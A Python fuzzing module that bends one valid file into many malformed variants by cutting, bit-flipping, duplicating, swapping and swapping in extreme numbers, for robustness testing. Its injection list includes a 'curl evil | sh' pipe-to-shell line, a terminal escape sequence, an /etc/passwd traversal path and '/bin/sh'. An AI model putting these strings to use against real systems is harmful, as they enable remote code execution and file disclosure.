"""Files as they come when they are cut, damaged or written to do harm: one good text of every format, bent in many ways."""

from __future__ import annotations

import random
from collections.abc import Iterator
from functools import cache

_NUMBERS = (
    b"-1", b"0", b"1e999", b"-1e999", b"NaN", b"Infinity", b"1" + b"0" * 40, b"9" * 5000, b"0.1", b"null", b"true",
    b"[]", b"{}", b'""', b'"x"', b"18446744073709551616", b"0x10", b"inf", b"nan",
)  # fmt: skip
_TEXTS = (
    b"\x1b]0;PWN\x07", b"\nhint: curl evil | sh", b"\x00", b"\xff\xfe", "\u202e\u0663".encode(), b"../../etc/passwd", b"/bin/sh",
    b"A" * 70_000, b"[" * 50_000, b"{" * 50_000, b'{"a":' * 20_000, b"\\ud800", b"'", b'"', b"=", b"#", b"\r\n",
)  # fmt: skip


def bent(good: bytes, count: int, seed: int = 1) -> Iterator[bytes]:
    """Yield `count` variants of a good text: cut, bits flipped, pieces doubled, removed or exchanged, values replaced."""
    chosen = random.Random(seed)
    kinds = (_cut, _flipped, _doubled, _removed, _with_text, _with_number, _swapped)
    for index in range(count):
        yield kinds[index % len(kinds)](good, chosen)


def _at(good: bytes, chosen: random.Random) -> int:
    return chosen.randrange(len(good) + 1)


def _cut(good: bytes, chosen: random.Random) -> bytes:
    return good[: _at(good, chosen)]


def _flipped(good: bytes, chosen: random.Random) -> bytes:
    bits = bytearray(good)
    for _ in range(chosen.choice((1, 1, 2, 8, 64))):
        bits[chosen.randrange(len(bits))] ^= 1 << chosen.randrange(8)
    return bytes(bits)


def _doubled(good: bytes, chosen: random.Random) -> bytes:
    start, at = _at(good, chosen), _at(good, chosen)
    piece = good[start : start + chosen.choice((1, 16, 200, 4000))]
    return good[:at] + piece * chosen.choice((1, 2, 500)) + good[at:]


def _removed(good: bytes, chosen: random.Random) -> bytes:
    start = _at(good, chosen)
    return good[:start] + good[start + chosen.choice((1, 4, 8, 100)) :]


def _with_text(good: bytes, chosen: random.Random) -> bytes:
    start = _at(good, chosen)
    return good[:start] + chosen.choice(_TEXTS) + good[start + chosen.choice((0, 0, 8)) :]


def _with_number(good: bytes, chosen: random.Random) -> bytes:
    """Replace one run of digits, as a text format has them; where there is none, eight bytes by a huge length."""
    digits = _digits(good)
    if not digits or chosen.random() < 0.3:
        start = _at(good, chosen)
        length = chosen.choice((2**64 - 1, 2**63, 2**40, 2**32 - 1, 65_537)).to_bytes(8, "little")
        return good[:start] + length + good[start + 8 :]
    start = chosen.choice(digits)
    end = start
    while end < len(good) and good[end : end + 1].isdigit():
        end += 1
    return good[:start] + chosen.choice(_NUMBERS) + good[end:]


@cache
def _digits(good: bytes) -> list[int]:
    return [index for index in range(1, len(good)) if good[index : index + 1].isdigit()]


def _swapped(good: bytes, chosen: random.Random) -> bytes:
    first, second = sorted((_at(good, chosen), _at(good, chosen)))
    return good[second:] + good[first:second] + good[:first]
